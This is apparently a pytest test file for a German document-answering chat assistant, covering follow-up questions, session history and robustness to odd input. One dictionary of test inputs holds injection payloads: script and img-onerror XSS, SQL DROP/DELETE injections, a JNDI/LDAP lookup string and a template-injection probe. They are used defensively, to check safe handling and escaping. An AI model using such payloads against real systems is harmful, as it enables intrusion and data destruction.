from collections.abc import Sequence

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assistant.answers.answering import NOT_FOUND, NOT_FOUND_EN
from assistant.datatypes import Answer
from assistant.session import (EMPTY_QUESTION, MAX_QUESTION_CHARS, Assistant, ChatSession, Turn, clean_question,
                               contextual_query, is_follow_up)
from assistant.web.render import answer_markdown, escape_markdown
from conftest import check_citations


@pytest.mark.parametrize("question, expected", [
    ("Und wie lautet ihre E-Mail-Adresse?", True),
    ("Wie ist seine Telefonnummer?", True),
    ("Und dort?", True),
    ("What about his phone number?", True),
    ("Wer ist für Potenzialförderung zuständig?", False),
    ("Wann wurde die Bildungsinitiative RuhrFutur gegründet?", False),
])
def test_follow_up_detection(question, expected):
    assert is_follow_up(question) is expected


def test_a_follow_up_refers_to_the_person_the_previous_answer_named():
    earlier = Turn("Wer ist Ansprechpartnerin für Digitalisierung?",
                   Answer("Digitalisierung – TalentMetropole Ruhr – Dr. Britta L. Schröder: s@t.de [1]", True))
    assert contextual_query("Und wie lautet ihre E-Mail-Adresse?", [earlier]) == \
        "Und wie lautet ihre E-Mail-Adresse? Dr. Britta L. Schröder"
    assert contextual_query("Und ihre E-Mail?", []) == "Und ihre E-Mail?"


def test_a_follow_up_keeps_the_organisation_the_previous_question_named():
    earlier = Turn("Wer ist Geschäftsführer der RuhrFutur?",
                   Answer("„Die Erweiterung ...“, erklärt Dr. Oliver Döhrmann, Geschäftsführer der RuhrFutur. [1]", True))
    assert contextual_query("Und wer kümmert sich dort um die Kommunikation?", [earlier]) == \
        "Und wer kümmert sich dort um die Kommunikation? Dr. Oliver Döhrmann RuhrFutur"


def test_a_follow_up_after_a_question_that_asked_something_else_keeps_that_subject():
    earlier = Turn("Wann wurde die Bildungsinitiative RuhrFutur gegründet?",
                   Answer("2013 hatte die Stiftung Mercator ... die Bildungsinitiative gegründet. [1]", True))
    assert contextual_query("Und wer leitet sie?", [earlier]) == \
        "Und wer leitet sie? Wann wurde die Bildungsinitiative RuhrFutur gegründet?"
    refused = Turn("Wer ist für Potenzialförderung zuständig?", Answer("Dazu finden sich keine Angaben.", False))
    assert contextual_query("Und seine E-Mail?", [refused]) == \
        "Und seine E-Mail? Wer ist für Potenzialförderung zuständig?"


def test_a_question_naming_a_new_subject_drops_the_old_one():
    earlier = Turn("Wer ist Ansprechpartnerin für Digitalisierung?",
                   Answer("Digitalisierung – TalentMetropole Ruhr – Dr. Britta L. Schröder: s@t.de [1]", True))
    for question in ("Wann wurde RuhrFutur gegründet?", "Und wie erreiche ich Benjamin Fricke?",
                     "Und wann war der Kongress 2018?"):
        assert contextual_query(question, [earlier]) == question


def test_a_follow_up_in_a_chat_session_takes_the_person_of_the_previous_answer(assistant):
    session = ChatSession(assistant)
    first = session.ask("Wer ist Ansprechpartnerin für Digitalisierung?")
    assert "Schröder" in first.text
    second = session.ask("Und wie lautet ihre E-Mail-Adresse?")
    assert second.answered and "schroeder@talentmetropoleruhr.de" in second.text
    assert "kreuzinger" not in second.text and [turn.answer for turn in session.turns] == [first, second]
    session.reset()
    assert session.turns == []


def test_a_question_with_a_new_subject_drops_the_old_one(assistant):
    session = ChatSession(assistant)
    assert "Kreuzinger" in session.ask("Wer ist für Potenzialförderung zuständig?").text
    answer = session.ask("Und wann wurde die Bildungsinitiative RuhrFutur gegründet?")
    assert answer.answered and "2013" in answer.text and "Kreuzinger" not in answer.text


def test_history_of_plain_questions(assistant):
    answer = assistant.ask("Und wie lautet ihre E-Mail-Adresse?", ["Wer ist Ansprechpartnerin für Digitalisierung?"])
    assert "schroeder@talentmetropoleruhr.de" in answer.text


def test_earlier_questions_without_answers_are_answered_once_as_the_chat_answered_them(assistant):
    history = ["Wer ist Ansprechpartnerin für Digitalisierung?"]
    turns = assistant.answered_turns(history)
    assert turns[0].answer == ChatSession(assistant).ask(history[0])
    assert assistant.answered_turns(history)[0].answer is turns[0].answer  # kept, not answered again
    given = Answer("Bernd Kreuzinger: kreuzinger@talentmetropoleruhr.de [1]", True)
    assert assistant.answered_turns([Turn("Wer ist für Potenzialförderung zuständig?", given)])[0].answer is given


@pytest.mark.parametrize("question", ["", "   ", "\n\t", "???", "\x00\x07"])
def test_empty_questions_get_a_polite_message(assistant, question):
    answer = assistant.ask(question)
    assert not answer.answered and answer.text == EMPTY_QUESTION


def test_long_questions_are_capped_with_a_notice(assistant):
    answer = assistant.ask("Wer ist für Potenzialförderung zuständig? " + "bitte " * 20_000)
    assert "ersten" in answer.notice and str(MAX_QUESTION_CHARS) in answer.notice


def test_clean_question_removes_control_characters():
    text, notice = clean_question("Wer\x00 ist\x1b[31m zuständig?\u200b")
    assert text == "Wer ist [31m zuständig?" and notice == ""


HOSTILE_QUESTIONS = {
    "100k-characters": ("Wer ist für Potenzialförderung zuständig? " * 2_400)[:100_000],
    "control-characters": "Wer\x00 ist\x1b[31m für\u202e Potenzialförderung\u200b zuständig?\x7f\r\n",
    "emoji": "Wer ist für Potenzialförderung zuständig? 🙂🚀👩‍🏫",
    "emoji-only": "🙂🚀👩‍🏫",
    "script": "<script>alert('x')</script> Wer ist Geschäftsführer der RuhrFutur?",
    "img-iframe": '<img src=x onerror="alert(1)"> <iframe src="http://example.invalid/"></iframe>',
    "markdown-image": "![x](http://example.invalid/x.png) Wann wurde RuhrFutur gegründet? [mehr](javascript:alert(1))",
    "markdown": "[1] [2] **fett** `code` # Überschrift | Tabelle |",
    "sql": "'; DROP TABLE documents; --",
    "sql-in-question": "Wer ist zuständig?' OR '1'='1'; DELETE FROM chunks; --",
    "format-strings": "%s %d {0} ${jndi:ldap://example.invalid/a} {{7*7}}",
    "cyrillic": "Кто отвечает за развитие талантов?",
    "arabic": "من المسؤول عن تنمية المواهب؟",
    "chinese": "谁负责人才培养？",
    "unpaired-surrogate": "Wer ist \ud800 für Potenzialförderung zuständig?",
    "invisible-only": "\u202e\u200b\ufeff\u00ad",
}


def check_reply(assistant: Assistant, question: str, history: Sequence[Turn] = ()) -> Answer:
    """A cited answer or a polite message, never an exception; a notice only for a question cut to
    length; safe to render."""
    answer = assistant.ask(question, history)
    assert (answer.answered or answer.text in {EMPTY_QUESTION, NOT_FOUND, NOT_FOUND_EN}
            or answer.text.endswith("ist in den Dokumenten nicht angegeben."))
    check_citations(answer, assistant.kb)
    assert not answer.notice or len(question) > MAX_QUESTION_CHARS
    rendered = escape_markdown(question) + answer_markdown(answer)  # as the chat shows question and answer
    for unsafe in ("<img", "<script", "<iframe", "![", "](http", "](javascript"):
        assert unsafe not in rendered
    return answer


@pytest.mark.parametrize("question", HOSTILE_QUESTIONS.values(), ids=HOSTILE_QUESTIONS.keys())
def test_hostile_questions_and_follow_ups_get_an_answer_or_a_polite_message(assistant, question):
    answer = check_reply(assistant, question)
    assert (f"ersten {MAX_QUESTION_CHARS} Zeichen" in answer.notice) == (len(question) > MAX_QUESTION_CHARS)
    # The chat keeps the question as typed; a follow-up searches it again, with the new question.
    check_reply(assistant, "Und wie lautet ihre E-Mail-Adresse?", [Turn(question, answer)])


@settings(max_examples=20, deadline=None)
@given(question=st.text(max_size=200))
def test_any_question_gets_an_answer_or_a_polite_message(assistant, question):
    check_reply(assistant, question)
